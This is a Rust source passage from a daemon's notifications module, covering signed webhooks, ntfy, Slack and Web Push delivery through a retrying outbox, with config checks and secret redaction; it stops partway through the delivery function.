//! Notifications: what happens in sessions, sent to a person wherever they are, through
//! channels the daemon's notify file names (`switchboard serve --notify FILE`; see
//! `docs/notifications.md`):
//!
//! - `webhook`: the notice as JSON, signed with HMAC-SHA256
//!   (`x-switchboard-signature: t=UNIX_SECONDS,v1=HEX` over `t.body`), with its idempotency key
//!   in `x-switchboard-delivery`;
//! - `ntfy`: a message to an ntfy topic with Approve, Deny and Open buttons;
//! - `slack`: a Slack-compatible incoming webhook, with a button to the request's page;
//! - Web Push ([`crate::push`]): one channel per browser subscribed from the web UI, added and
//!   removed while the daemon runs.
//!
//! Delivery is at least once. The daemon queues a notice in the store's outbox
//! ([`Store::enqueue_outbox`]) once the event it is about is stored, one item per channel,
//! keyed by what it is about; each channel's sender takes its items in order and forgets one
//! only when its receiver answered `2xx`, retrying with a backoff (1 s, doubling, up to
//! 5 min) meanwhile. A receiver that was down gets everything once it is back, and a daemon
//! that restarts sends what was still waiting. A receiver that sees a key twice (its answer
//! was lost) has had that notice already.
//!
//! The pump, once a batch is stored, turns what a person may want to hear of into
//! [`Notice`]s (`daemon/notices.rs`) and hands them to the [`Notifier`], whose task queues the
//! outbox items off the pump's path. Once queued, nothing about delivery lives only in memory
//! (the hand-off to the queueing task does, for a moment). The channel list is not fixed:
//! each browser push subscription is a channel (`push-ID`) added and removed while the daemon
//! runs; a removed channel's sender ends and forgets its outbox rows
//! (`Store::outbox_forget`), unless a sender for the same name replaced it.

use parking_lot::RwLock;
use std::collections::HashMap;
use std::sync::Arc;
use std::time::Duration;

use axum::body::Bytes;
use hmac::{KeyInit as _, Mac as _};
use http_body_util::Full;
use serde::Deserialize;
use serde_json::{json, Value};
use switchboard_store::{NewOutboxItem, OutboxItem, Store};
use tokio::sync::{mpsc, watch, Notify};

/// What a channel may be told about.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize, serde::Serialize)]
#[serde(rename_all = "snake_case")]
pub enum Topic {
    /// A tool call waits for a person's permission.
    PermissionRequested,
    /// Claude asks a question (`AskUserQuestion`).
    Question,
    /// A turn ended: Claude is done and waits.
    SessionFinished,
    /// A turn ended in an error, or the CLI ended unasked.
    SessionFailed,
    /// A request still waits shortly before it times out (a minute before, or halfway for a
    /// timeout under two minutes).
    RequestExpiring,
    /// A session paused at a budget.
    BudgetReached,
    /// A test a person asked for (`POST /api/push/subscriptions/{id}/test`); every channel
    /// that is sent one takes it.
    #[serde(skip)]
    Test,
}

impl Topic {
    /// Every topic.
    pub const ALL: [Topic; 6] = [
        Topic::PermissionRequested,
        Topic::Question,
        Topic::SessionFinished,
        Topic::SessionFailed,
        Topic::RequestExpiring,
        Topic::BudgetReached,
    ];

    /// Topics by name; the error names one that is not a topic.
    pub fn parse_all(names: &[String]) -> Result<Vec<Topic>, String> {
        names
            .iter()
            .map(|name| {
                Topic::ALL.into_iter().find(|topic| topic.as_str() == name).ok_or_else(|| {
                    let known: Vec<&str> = Topic::ALL.iter().map(|topic| topic.as_str()).collect();
                    format!("events: {name:?} is not one of {}", known.join(", "))
                })
            })
            .collect()
    }

    /// Its name.
    pub fn as_str(self) -> &'static str {
        match self {
            Topic::PermissionRequested => "permission_requested",
            Topic::Question => "question",
            Topic::SessionFinished => "session_finished",
            Topic::SessionFailed => "session_failed",
            Topic::RequestExpiring => "request_expiring",
            Topic::BudgetReached => "budget_reached",
            Topic::Test => "test",
        }
    }
}

/// How a channel delivers.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum ChannelKind {
    /// Signed JSON to a URL.
    Webhook,
    /// An ntfy topic (`https://ntfy.sh/TOPIC`, or a server of your own).
    Ntfy,
    /// A Slack-compatible incoming webhook.
    Slack,
    /// A browser's push subscription (made from the web UI, not the notify file).
    #[serde(skip)]
    WebPush,
}

/// A push subscription's channel: where its messages are encrypted to, and the device's name.
#[derive(Debug, Clone)]
pub struct PushChannel {
    /// The browser's keys.
    pub target: crate::push::Target,
    /// What the person called the device.
    pub device: String,
}

/// One channel of the notify file (`[[channel]]`).
#[derive(Clone, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct ChannelConfig {
    /// Its name: 1-64 letters, digits, `.`, `_`, `-`, starting with a letter or digit (decisions made through its links are
    /// recorded as `link (KIND:NAME)`).
    pub name: String,
    /// How it delivers.
    pub kind: ChannelKind,
    /// Where to.
    pub url: String,
    /// `webhook`: the HMAC key its receiver checks signatures with (required).
    #[serde(default)]
    pub secret: Option<String>,
    /// `ntfy`: an access token, sent as `Authorization: Bearer`.
    #[serde(default)]
    pub token: Option<String>,
    /// What it is told about (default: everything).
    #[serde(default)]
    pub events: Option<Vec<Topic>>,
    /// A PEM file of certificate authorities to trust for this channel besides the system's
    /// (a receiver of your own with a private CA).
    #[serde(default)]
    pub ca_file: Option<std::path::PathBuf>,
    /// Escalation: this channel hears of a permission request or a question only if it still
    /// waits this many seconds after it was asked (other notices it hears of at once).
    #[serde(default)]
    pub after_secs: Option<u64>,
    /// Its receiver may be at a private address (loopback, your own network): otherwise a URL
    /// whose host is, or resolves to, one is not sent to ([`crate::addresses`]). A link-local
    /// address never is.
    #[serde(default)]
    pub allow_private: bool,
    /// A push subscription's keys ([`ChannelKind::WebPush`] only).
    #[serde(skip)]
    pub push: Option<PushChannel>,
}

impl std::fmt::Debug for ChannelConfig {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        // Never the secret or the token.
        // Nor the URL: an ntfy topic or a Slack webhook URL is a secret too.
        f.debug_struct("ChannelConfig")
            .field("name", &self.name)
            .field("kind", &self.kind)
            .finish_non_exhaustive()
    }
}

impl ChannelConfig {
    /// Its name as decisions record it: `KIND:NAME`.
    pub fn label(&self) -> String {
        let kind = match self.kind {
            ChannelKind::Webhook => "webhook",
            ChannelKind::Ntfy => "ntfy",
            ChannelKind::Slack => "slack",
            ChannelKind::WebPush => "web push",
        };
        match &self.push {
            Some(push) => format!("{kind}:{}", push.device),
            None => format!("{kind}:{}", self.name),
        }
    }

    /// Whether it is told about `topic`.
    pub fn wants(&self, topic: Topic) -> bool {
        topic == Topic::Test || self.events.as_ref().is_none_or(|events| events.contains(&topic))
    }

    /// A push subscription's channel.
    pub fn web_push(subscription: &crate::push::Subscription) -> Result<ChannelConfig, String> {
        let target = crate::push::Target::from_keys(&subscription.p256dh, &subscription.auth)?;
        let events =
            subscription.events.as_ref().map(|events| Topic::parse_all(events)).transpose()?;
        let device = match subscription.name.as_str() {
            "" => format!("push-{}", &subscription.id[..8.min(subscription.id.len())]),
            name => name.to_owned(),
        };
        Ok(ChannelConfig {
            name: subscription.channel(),
            kind: ChannelKind::WebPush,
            url: subscription.endpoint.clone(),
            secret: None,
            token: None,
            events,
            ca_file: None,
            after_secs: None,
            allow_private: false,
            push: Some(PushChannel { target, device }),
        })
    }

    /// Whether a session with `route` (its policy's `[notify]`, its own channels) tells this
    /// channel of `topic`, and when: `None`, never; `Some(None)`, at once; `Some(Some(wait))`,
    /// once a request still waits after `wait`. A route's chain decides for requests and
    /// questions; else the channel's own `after_secs`.
    pub fn hears(
        &self,
        topic: Topic,
        route: &switchboard_session::NotifyRoute,
    ) -> Option<Option<Duration>> {
        // `web-push` names every browser subscribed.
        let named = |name: &str| {
            name == self.name || (name == WEB_PUSH && self.kind == ChannelKind::WebPush)
        };
        if route.channels.as_ref().is_some_and(|only| !only.iter().any(|name| named(name))) {
            return None;
        }
        let request = matches!(topic, Topic::PermissionRequested | Topic::Question);
        if request && !route.escalate.is_empty() {
            let after = route
                .escalate
                .iter()
                .filter(|step| named(&step.channel))
                .map(|step| step.after_secs)
                .min()?;
            return Some((after > 0).then(|| Duration::from_secs(after)));
        }
        Some(self.escalates_after(topic))
    }

    /// How long after a request is asked this channel hears of it (`None`: at once).
    pub fn escalates_after(&self, topic: Topic) -> Option<Duration> {
        let request = matches!(topic, Topic::PermissionRequested | Topic::Question);
        self.after_secs.filter(|secs| request && *secs > 0).map(Duration::from_secs)
    }
}

/// The notify file: its channels, and how deliveries are retried.
#[derive(Debug, Clone, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct NotifyConfig {
    /// The channels.
    #[serde(default, rename = "channel")]
    pub channels: Vec<ChannelConfig>,
    /// The first wait before a failed delivery is tried again (doubling from there).
    #[serde(skip, default = "default_retry_initial")]
    pub retry_initial: Duration,
    /// The longest wait between tries.
    #[serde(skip, default = "default_retry_max")]
    pub retry_max: Duration,
    /// Web Push settings (`[push]`).
    #[serde(default)]
    pub push: crate::push::PushConfig,
    /// The daemon's VAPID key (`DATA_DIR/vapid-key`; `None`: a new one for this run).
    #[serde(skip)]
    pub vapid_key: Option<crate::push::VapidKey>,
    /// Where push subscriptions are kept (`DATA_DIR/push.json`; `None`: in memory).
    #[serde(skip)]
    pub push_file: Option<std::path::PathBuf>,
    /// The fleet's shared documents, where several daemons share a database: the push
    /// subscriptions are kept there instead (the file, where none is shared yet, becomes it).
    #[serde(skip)]
    pub shared: Option<Arc<dyn switchboard_store::Documents>>,
}

fn default_retry_initial() -> Duration {
    Duration::from_secs(1)
}

fn default_retry_max() -> Duration {
    Duration::from_secs(300)
}

impl Default for NotifyConfig {
    fn default() -> NotifyConfig {
        NotifyConfig {
            channels: Vec::new(),
            retry_initial: default_retry_initial(),
            retry_max: default_retry_max(),
            push: crate::push::PushConfig::default(),
            vapid_key: None,
            push_file: None,
            shared: None,
        }
    }
}

/// The name a route uses for every browser subscribed to Web Push.
pub const WEB_PUSH: &str = "web-push";

/// The most channels a notify file may name.
pub const MAX_CHANNELS: usize = 64;

/// The largest notify file read.
pub const MAX_NOTIFY_FILE_BYTES: u64 = 64 * 1024;

/// How long one delivery may take.
pub const DELIVERY_TIMEOUT: Duration = Duration::from_secs(10);

/// The most of a tool's input a notice carries (as JSON text); more is cut, and the notice
/// says so.
pub const MAX_INPUT_BYTES: usize = 16 * 1024;

impl NotifyConfig {
    /// Reads a notify file; the error names the problem (and never a secret).
    pub fn from_file(path: &std::path::Path) -> Result<NotifyConfig, String> {
        use std::io::Read as _;
        let shown = path.display();
        let file =
            std::fs::File::open(path).map_err(|error| format!("cannot read {shown}: {error}"))?;
        let mut text = String::new();
        file.take(MAX_NOTIFY_FILE_BYTES + 1)
            .read_to_string(&mut text)
            .map_err(|error| format!("cannot read {shown}: {error}"))?;
        if text.len() as u64 > MAX_NOTIFY_FILE_BYTES {
            return Err(format!("{shown} is larger than {} KiB", MAX_NOTIFY_FILE_BYTES / 1024));
        }
        NotifyConfig::from_toml(&text).map_err(|error| format!("{shown}: {error}"))
    }

    /// Reads a notify file's text.
    pub fn from_toml(text: &str) -> Result<NotifyConfig, String> {
        // The error says where and what is wrong, never the line itself (it may hold a secret).
        let config: NotifyConfig = toml::from_str(text).map_err(|error| {
            let line = error
                .span()
                .map(|span| text[..span.start.min(text.len())].matches('\n').count() + 1);
            // A value the message quotes may be a secret: only names (a field's, a kind's) are
            // repeated, in backquotes.
            let name = |part: &str| {
                part.len() <= 24
                    && part.starts_with(|c: char| c.is_ascii_alphabetic())
                    && part.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
            };
            let message: String = error
                .message()
                .split('`')
                .enumerate()
                .map(|(index, part)| match index % 2 {
                    1 if name(part) => format!("`{part}`"),
                    1 => "…".to_owned(),
                    _ => part.to_owned(),
                })
                .collect();
            match line {
                Some(line) => format!("line {line}: {message}"),
                None => message,
            }
        })?;
        config.check()?;
        Ok(config)
    }

    /// Names are unique and well formed, URLs are http(s), webhooks have a secret.
    pub fn check(&self) -> Result<(), String> {
        self.push.check()?;
        if self.channels.len() > MAX_CHANNELS {
            return Err(format!("at most {MAX_CHANNELS} channels"));
        }
        for (index, channel) in self.channels.iter().enumerate() {
            let name = &channel.name;
            if !crate::text::is_name(name) {
                return Err(format!(
                    "channel {}: a name is 1-64 letters, digits, '.', '_' or '-', starting with a letter or digit",
                    index + 1
                ));
            }
            if self.channels[..index].iter().any(|other| other.name == *name) {
                return Err(format!("two channels are named {name}"));
            }
            if name == WEB_PUSH || name.starts_with("push-") {
                return Err(format!(
                    "channel {name}: `{WEB_PUSH}` and names starting `push-` are Web Push's"
                ));
            }
            let url = channel.url.as_str();
            if !(url.starts_with("http://") || url.starts_with("https://")) {
                return Err(format!("channel {name}: url must be http:// or https://"));
            }
            if channel.kind == ChannelKind::Webhook
                && channel.secret.as_deref().is_none_or(|secret| secret.len() < 16)
            {
                return Err(format!(
                    "channel {name}: a webhook needs a secret of at least 16 characters (its receiver checks the signature with it)"
                ));
            }
            if channel.kind == ChannelKind::Ntfy && ntfy_topic(url).is_none() {
                return Err(format!("channel {name}: an ntfy url is https://SERVER/TOPIC"));
            }
            let Ok(uri) = url.parse::<axum::http::Uri>() else {
                return Err(format!("channel {name}: url is not a valid address"));
            };
            if url.contains(char::is_whitespace) {
                return Err(format!("channel {name}: url is not a valid address"));
            }
            if let Err(why) = crate::addresses::check_uri(&uri, channel.allow_private) {
                return Err(format!("channel {name}: url: {why}"));
            }
            let header_safe = |value: &str| axum::http::HeaderValue::from_str(value).is_ok();
            if channel
                .token
                .as_deref()
                .is_some_and(|token| !header_safe(&format!("Bearer {token}")))
            {
                return Err(format!("channel {name}: token has characters a header cannot carry"));
            }
            if let Some(ca_file) = &channel.ca_file {
                extra_roots(ca_file).map_err(|error| format!("channel {name}: {error}"))?;
            }
        }
        Ok(())
    }
}

/// What a notice is about, for the daemon to make the channels' items from.
#[derive(Debug, Clone)]
pub struct Notice {
    /// Its topic.
    pub topic: Topic,
    /// What it is about, unique (the idempotency key, with the channel's name).
    pub key: String,
    /// The notice as a webhook gets it, without its `link` (which is per channel).
    pub body: Value,
    /// The permission request it is about, if any: each channel's notice carries a link to it.
    pub request: Option<switchboard_session::PendingPermission>,
}

/// The daemon's side of notifications: queues notices for the channels and wakes their
/// senders; keeps the browsers' push subscriptions, each a channel of its own.
pub struct Notifier {
    shared: Arc<Shared>,
    queue: mpsc::UnboundedSender<Vec<NewOutboxItem>>,
}

impl std::fmt::Debug for Notifier {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Notifier").finish_non_exhaustive()
    }
}

/// What the notifier and its senders share.
struct Shared {
    store: Arc<dyn Store>,
    /// Counts each delivery's outcome.
    metrics: Arc<crate::metrics::Metrics>,
    closed: watch::Receiver<bool>,
    retry_initial: Duration,
    retry_max: Duration,
    /// The notify file's channels, then one per push subscription.
    channels: RwLock<Arc<Vec<ChannelConfig>>>,
    /// What wakes each channel's sender, and stops it, by name.
    wakers: parking_lot::Mutex<HashMap<String, Waker>>,
    /// Web Push.
    push: Push,
}

/// Web Push: the daemon's key, who it says it is, where subscriptions may be, and them.
struct Push {
    /// The client every subscription's sender shares (public addresses only).
    client: Result<HttpClient, String>,
    /// The client for the push services the person named (`[push] hosts`), which may be at
    /// private addresses.
    private_client: Result<HttpClient, String>,
    key: crate::push::VapidKey,
    subject: String,
    config: crate::push::PushConfig,
    subscriptions: crate::push::Subscriptions,
}

impl Push {
    /// Whether `endpoint`'s host is one the person named in `[push] hosts`.
    fn named_host(&self, endpoint: &str) -> bool {
        endpoint.parse::<axum::http::Uri>().is_ok_and(|uri| self.config.named(&uri))
    }
}

/// What wakes a channel's sender (new items) and stops it (its channel is gone).
struct Waker {
    wake: Arc<Notify>,
    stop: watch::Sender<bool>,
}

/// Why a delivery did not go out.
enum Failure {
    /// Try it again later.
    Retry(String),
    /// The receiver will never take this one: forget it and go on.
    Refused(String),
    /// The receiver is gone for good (a push subscription that ended).
    Gone,
}

impl Notifier {
    /// Starts a sender per channel and per push subscription kept, and the task that queues
    /// what [`Notifier::queue`] is given; they end when `closed` turns true. `public_url` is
    /// the daemon's, for the push services (who sends). An error when the push subscriptions
    /// cannot be read.
    pub async fn start(
        config: &NotifyConfig,
        store: Arc<dyn Store>,
        closed: watch::Receiver<bool>,
        public_url: Option<&str>,
        metrics: Arc<crate::metrics::Metrics>,
    ) -> Result<Notifier, String> {
        let subscriptions = match (&config.shared, &config.push_file) {
            (Some(shared), file) => {
                crate::push::Subscriptions::shared(shared.clone(), file.clone(), &config.push)
                    .await?
            }
            (None, Some(file)) => crate::push::Subscriptions::load(file.clone(), &config.push)?,
            (None, None) => crate::push::Subscriptions::in_memory(),
        };
        let subject = config.push.subject.clone().unwrap_or_else(|| match public_url {
            Some(url) if url.starts_with("https://") => url.to_owned(),
            _ => "mailto:switchboard@localhost".to_owned(),
        });
        let shared = Arc::new(Shared {
            store: store.clone(),
            metrics,
            closed,
            retry_initial: config.retry_initial,
            retry_max: config.retry_max,
            channels: RwLock::new(Arc::new(Vec::new())),
            wakers: parking_lot::Mutex::new(HashMap::new()),
            push: Push {
                client: http_client(None, false),
                private_client: http_client(None, true),
                key: config.vapid_key.clone().unwrap_or_default(),
                subject,
                config: config.push.clone(),
                subscriptions,
            },
        });
        for channel in &config.channels {
            shared.start(channel.clone());
        }
        for subscription in shared.push.subscriptions.list() {
            shared.start_push(&subscription);
        }
        // Shared with other nodes: a browser subscribed through another node gets a sender
        // here too (a notice about a session this node runs reaches it), and one removed
        // there is removed here.
        if let Some(mut changes) = shared.push.subscriptions.changes() {
            let following = Arc::downgrade(&shared);
            tokio::spawn(async move {
                while changes.changed().await.is_ok() {
                    let Some(shared) = following.upgrade() else { return };
                    let list = changes.borrow_and_update().0.clone();
                    let (added, removed) =
                        shared.push.subscriptions.reread(list, &shared.push.config);
                    for subscription in &added {
                        shared.start_push(subscription);
                    }
                    for subscription in &removed {
                        shared.remove(&subscription.channel()).await;
                    }
                }
            });
        }
        // What waits for a channel that is no more (taken out of the notify file, a push
        // subscription dropped at load) is forgotten.
        let forgetting = shared.clone();
        tokio::spawn(async move {
            match forgetting.store.outbox_channels().await {
                Ok(waiting) => {
                    let gone = |name: &String| !forgetting.wakers.lock().contains_key(name);
                    for channel in waiting.iter().filter(|channel| gone(channel)) {
                        tracing::info!(%channel, "notifications for a channel that is no more are forgotten");
                        if let Err(error) = forgetting.store.outbox_forget(channel).await {
                            tracing::warn!(%channel, %error, "they stay queued");
                        }
                    }
                }
                Err(error) => tracing::warn!(%error, "the outbox cannot be read"),
            }
        });
        let (queue, mut queued) = mpsc::unbounded_channel::<Vec<NewOutboxItem>>();
        let waking = shared.clone();
        tokio::spawn(async move {
            while let Some(mut items) = queued.recv().await {
                // Not for a channel removed meanwhile (its queue was forgotten).
                items.retain(|item| waking.wakers.lock().contains_key(&item.channel));
                if items.is_empty() {
                    continue;
                }
                // The store retries nothing here: a failure is logged, and the notice is lost
                // only if the store cannot take it at all.
                if let Err(error) = store.enqueue_outbox(&items).await {
                    tracing::error!(%error, "notifications could not be queued");
                    continue;
                }
                for item in &items {
                    waking.wake(&item.channel);
                }
            }
        });
        Ok(Notifier { shared, queue })
    }

    /// The channels: the notify file's, then one per push subscription.
    pub fn channels(&self) -> Arc<Vec<ChannelConfig>> {
        self.shared.channels()
    }

    /// Whether there is no channel to tell anything (a cheap test before making notices).
    pub fn is_idle(&self) -> bool {
        self.shared.channels.read().is_empty()
    }

    /// Queues `notice` for the channels that want it and `pick` chooses, its link (for a
    /// request) made by `link` from the channel's label.
    pub fn queue(
        &self,
        notice: &Notice,
        pick: impl Fn(&ChannelConfig) -> bool,
        link: impl Fn(&str) -> Option<String>,
    ) {
        let items: Vec<NewOutboxItem> = self
            .channels()
            .iter()
            .filter(|channel| channel.wants(notice.topic) && pick(channel))
            .map(|channel| {
                let mut body = notice.body.clone();
                body["channel"] = json!(channel.name);
                // No link where none can be made (ids too long for one): no buttons then.
                if let Some(link) = notice.request.as_ref().and_then(|_| link(&channel.label())) {
                    body["link"] = json!(link);
                }
                NewOutboxItem {
                    channel: channel.name.clone(),
                    key: notice.key.clone(),
                    body: body.to_string(),
                }
            })
            .collect();
        if !items.is_empty() {
            let _ = self.queue.send(items);
        }
    }

    /// The public key browsers subscribe with (base64url).
    pub fn push_key(&self) -> String {
        self.shared.push.key.public_key()
    }

    /// The push subscriptions.
    pub fn push_subscriptions(&self) -> Vec<crate::push::Subscription> {
        self.shared.push.subscriptions.list()
    }

    /// Adds a browser's subscription (by the token `by`) and starts its sender; the same
    /// endpoint again replaces the old one's keys. It, and whether it is new; the error says
    /// what is wrong with it.
    pub async fn subscribe(
        &self,
        new: crate::push::NewSubscription,
        by: &str,
    ) -> Result<(crate::push::Subscription, bool), crate::push::PushError> {
        let push = &self.shared.push;
        let mut new = new;
        // Kept by their names, each once.
        if let Some(events) = &new.events {
            let topics = Topic::parse_all(events).map_err(crate::push::PushError::Invalid)?;
            let mut names: Vec<String> = Vec::new();
            for topic in topics {
                if !names.iter().any(|name| name == topic.as_str()) {
                    names.push(topic.as_str().to_owned());
                }
            }
            new.events = Some(names);
        }
        let (subscription, created) = push.subscriptions.add(new, by, &push.config).await?;
        let channel =
            ChannelConfig::web_push(&subscription).map_err(crate::push::PushError::Invalid)?;
        // Replaces the sender of the same subscription, if any, keeping what waits for it.
        self.shared.start(channel);
        Ok((subscription, created))
    }

    /// Removes a subscription: its sender ends and what waited for it is forgotten. It, if
    /// there was one.
    pub async fn unsubscribe(
        &self,
        id: &str,
    ) -> Result<Option<crate::push::Subscription>, crate::push::PushError> {
        let removed = self.shared.push.subscriptions.remove(id).await?;
        if let Some(subscription) = &removed {
            self.shared.remove(&subscription.channel()).await;
        }
        Ok(removed)
    }

    /// Removes every subscription the token `by` made (it was revoked: its devices hear no
    /// more, and get no more links). How many.
    pub async fn unsubscribe_by(&self, by: &str) -> usize {
        let mut removed = 0;
        for subscription in self.push_subscriptions().into_iter().filter(|found| found.by == by) {
            match self.unsubscribe(&subscription.id).await {
                Ok(Some(_)) => removed += 1,
                Ok(None) => {}
                Err(error) => tracing::warn!(subscription = %subscription.id, "{error}"),
            }
        }
        removed
    }
}

impl Shared {
    fn channels(&self) -> Arc<Vec<ChannelConfig>> {
        self.channels.read().clone()
    }

    /// Starts the sender of a push subscription.
    fn start_push(self: &Arc<Shared>, subscription: &crate::push::Subscription) {
        match ChannelConfig::web_push(subscription) {
            Ok(channel) => self.start(channel),
            Err(error) => tracing::error!(subscription = %subscription.id, "{error}"),
        }
    }

    fn wake(&self, channel: &str) {
        if let Some(waker) = self.wakers.lock().get(channel) {
            waker.wake.notify_one();
        }
    }

    /// Adds `channel` and starts its sender (a channel without an HTTPS client is logged and
    /// left out).
    fn start(self: &Arc<Shared>, channel: ChannelConfig) {
        // Every push subscription shares one client (the system's roots, made once); a
        // notify-file channel has its own (it may add authorities).
        let client = match channel.kind {
            // A push service the person named in `[push] hosts` may be in their own network.
            ChannelKind::WebPush if self.push.named_host(&channel.url) => {
                self.push.private_client.clone()
            }
            ChannelKind::WebPush => self.push.client.clone(),
            _ => http_client(channel.ca_file.as_deref(), channel.allow_private),
        };
        let client = match client {
            Ok(client) => client,
            Err(error) => {
                tracing::error!(channel = %channel.name, "no HTTPS client for the channel: {error}");
                return;
            }
        };
        let wake = Arc::new(Notify::new());
        let (stop, stopped) = watch::channel(false);
        // The channel and its sender change together, under both locks (wakers first): a
        // sender it replaces is stopped, and the list never names a channel twice.
        {
            let mut wakers = self.wakers.lock();
            let mut channels = self.channels.write();
            let replaced = wakers.insert(channel.name.clone(), Waker { wake: wake.clone(), stop });
            if let Some(replaced) = replaced {
                replaced.stop.send_replace(true);
            }
            let mut next: Vec<ChannelConfig> =
                channels.iter().filter(|other| other.name != channel.name).cloned().collect();
            next.push(channel.clone());
            *channels = Arc::new(next);
        }
        let sender = Sender { channel, shared: self.clone(), client, wake, stopped };
        tokio::spawn(sender.run());
    }

    /// Removes the channel `name` and stops its sender; then forgets what waited for it.
    async fn remove(&self, name: &str) {
        {
            let mut wakers = self.wakers.lock();
            let mut channels = self.channels.write();
            if let Some(waker) = wakers.remove(name) {
                waker.stop.send_replace(true);
            }
            if channels.iter().any(|channel| channel.name == name) {
                let next =
                    channels.iter().filter(|channel| channel.name != name).cloned().collect();
                *channels = Arc::new(next);
            }
        }
        if let Err(error) = self.store.outbox_forget(name).await {
            tracing::warn!(channel = %name, %error, "the removed channel's notifications stay queued");
        }
    }
}

/// One channel's sender.
struct Sender {
    channel: ChannelConfig,
    shared: Arc<Shared>,
    client: HttpClient,
    wake: Arc<Notify>,
    /// Turns true when its channel is removed.
    stopped: watch::Receiver<bool>,
}

impl Sender {
    /// Sends what waits, in order, each until its receiver takes it; then waits for more.
    /// Ends when the daemon closes, or when its channel is removed (forgetting what waited
    /// then, unless another sender took the channel over).
    async fn run(self) {
        let shared = self.shared.clone();
        let mut closed = shared.closed.clone();
        let mut stopped = self.stopped.clone();
        let mut backoff = shared.retry_initial;
        loop {
            if *closed.borrow() {
                return;
            }
            // Removed, or replaced by another sender of the same channel (a browser that
            // subscribed again): whoever removed it forgets what waited.
            if *stopped.borrow() {
                return;
            }
            let waiting = match shared.store.outbox(&self.channel.name, 32).await {
                Ok(waiting) => {
                    if waiting.is_empty() {
                        backoff = shared.retry_initial;
                    }
                    waiting
                }
                Err(error) => {
                    tracing::warn!(channel = %self.channel.name, %error, retry_in = ?backoff, "the outbox cannot be read");
                    tokio::select! {
                        () = tokio::time::sleep(backoff) => {}
                        changed = stopped.changed() => if changed.is_err() { return },
                        changed = closed.changed() => if changed.is_err() || *closed.borrow() { return },
                    }
                    backoff = (backoff * 2).min(shared.retry_max);
                    continue;
                }
            };
            if waiting.is_empty() {
                tokio::select! {
                    () = self.wake.notified() => {}
                    changed = stopped.changed() => if changed.is_err() { return },
                    changed = closed.changed() => if changed.is_err() { return },
                }
                continue;
            }
            for item in waiting {
                loop {
                    let outcome = self.deliver(&item).await;
                    // Every browser's push channel counts as one (`push`).
                    let channel = match self.channel.kind {
                        ChannelKind::WebPush => "push",
                        _ => self.channel.name.as_str(),
                    };
                    shared.metrics.notified(
                        channel,
                        match &outcome {
                            Ok(()) => "delivered",
                            Err(Failure::Refused(_)) => "refused",
                            Err(Failure::Gone) => "gone",
                            Err(Failure::Retry(_)) => "retry",
                        },
                    );
                    let done = match &outcome {
                        Ok(()) => true,
                        Err(Failure::Refused(why)) => {
                            tracing::warn!(channel = %self.channel.name, key = %item.key, "a notification was refused for good, and dropped: {why}");
                            true
                        }
                        Err(Failure::Gone) => {
                            tracing::info!(channel = %self.channel.name, "the push subscription ended (its service says it is gone): removed");
                            let id = self.channel.name.trim_start_matches("push-");
                            if let Err(error) = shared.push.subscriptions.remove(id).await {
                                tracing::warn!(channel = %self.channel.name, "{error}");
                            }
                            shared.remove(&self.channel.name).await;
                            return;
                        }
                        Err(Failure::Retry(why)) => {
                            tracing::warn!(
                                channel = %self.channel.name,
                                key = %item.key,
                                retry_in = ?backoff,
                                "a notification was not taken: {why}"
                            );
                            false
                        }
                    };
                    if done {
                        backoff = shared.retry_initial;
                        if let Err(error) = shared.store.outbox_done(item.id).await {
                            tracing::warn!(channel = %self.channel.name, %error, "a sent notification stays queued");
                        }
                        break;
                    }
                    tokio::select! {
                        () = tokio::time::sleep(backoff) => {}
                        _ = stopped.changed() => return,
                        changed = closed.changed() => if changed.is_err() || *closed.borrow() { return },
                    }
                    backoff = (backoff * 2).min(shared.retry_max);
                }
                if *stopped.borrow() {
                    return;
                }
            }
        }
    }

    /// One try: `Ok` when the receiver answered `2xx`.
    async fn deliver(&self, item: &OutboxItem) -> Result<(), Failure> {
        use axum::http::{header, Request};
        let notice: Value = serde_json::from_str(&item.body)
            .map_err(|error| Failure::Refused(error.to_string()))?;
        let post = |url: &str| Request::post(url).header(header::CONTENT_TYPE, "application/json");
        let request = match self.channel.kind {
            ChannelKind::Webhook => {
                let secret = self.channel.secret.as_deref().unwrap_or_default();
                let timestamp = switchboard_store::now_ms() / 1000;
                post(&self.channel.url)
                    .header("x-switchboard-event", notice["event"].as_str().unwrap_or(""))
                    .header("x-switchboard-delivery", &item.key)
                    .header("x-switchboard-signature", signature(secret, timestamp, &item.body))
                    .body(Full::new(Bytes::from(item.body.clone())))
            }
            ChannelKind::Ntfy => {
                let (server, topic) = ntfy_topic(&self.channel.url)
                    .ok_or(Failure::Refused("not an ntfy topic url".into()))?;
                let mut request = post(server);
                if let Some(token) = &self.channel.token {
                    request = request.header(header::AUTHORIZATION, format!("Bearer {token}"));
                }
                request.body(Full::new(Bytes::from(ntfy_message(topic, &notice).to_string())))
            }
            ChannelKind::Slack => post(&self.channel.url)
                .body(Full::new(Bytes::from(slack_message(&notice).to_string()))),
            ChannelKind::WebPush => self.web_push(&notice)?,
        };
        // The error says what went wrong, never the URL (an ntfy topic, a Slack webhook URL or
        // a push endpoint is a secret).
        let request = request.map_err(|_| {
            Failure::Refused("the request could not be made (a bad header value)".into())
        })?;
        // An address written in the URL, on every try (a name is checked as it resolves).
        let allow_private = match self.channel.kind {
            ChannelKind::WebPush => self.shared.push.named_host(&self.channel.url),
            _ => self.channel.allow_private,
        };
        crate::addresses::check_uri(request.uri(), allow_private).map_err(Failure::Refused)?;
        let response = tokio::time::timeout(DELIVERY_TIMEOUT, self.client.request(request))
            .await
            .map_err(|_| {
                Failure::Retry(format!("no answer within {} s", DELIVERY_TIMEOUT.as_secs()))
            })?
            .map_err(|error| {
                Failure::Retry(if error.is_connect() {
                    "could not connect".to_owned()
                } else {
                    "the request failed".to_owned()
                })
            })?;
        let status = response.status();
        match (status.as_u16(), self.channel.kind) {
            _ if status.is_success() => Ok(()),
            // RFC 8030 §7.3: the subscription expired or was removed.
            (404 | 410, ChannelKind::WebPush) => Err(Failure::Gone),
            // A push service's other 4xx (too large, a bad key) are this message's for good.
            (400..=499, ChannelKind::WebPush) if !matches!(status.as_u16(), 408 | 429) => {
                Err(Failure::Refused(format!("the push service answered {status}")))
            }
